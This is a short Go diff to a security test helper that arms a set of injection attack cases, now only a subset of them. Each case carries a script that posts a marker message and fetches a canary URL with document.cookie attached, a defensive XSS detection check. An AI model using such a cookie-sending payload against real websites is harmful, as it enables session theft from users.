@@ -41,7 +41,7 @@ func enter(t *testing.T) *arena {
 	a.s = resttest.Start(t, resttest.Config{Ops: decks.Ops, Repo: decks.Listen, Rest: func(c *rest.Config) { c.Limits.Rate = -1 }})
 	a.s.User("alice")
 	account(t, a.s, "alice", "pro", "", 0)
-	for i, attack := range decktest.Attacks() {
+	for i, attack := range decktest.Some(decktest.Attacks()) {
 		script := fmt.Sprintf("self.HIT%[1]d=1;top.postMessage('HIT%[1]d','*');fetch('%[2]s/script/%[1]d?'+document.cookie)", i, a.canary.URL)
 		a.armed = append(a.armed, decktest.Arm(attack, script, fmt.Sprintf("%s/%d", a.canary.URL, i)))
 	}
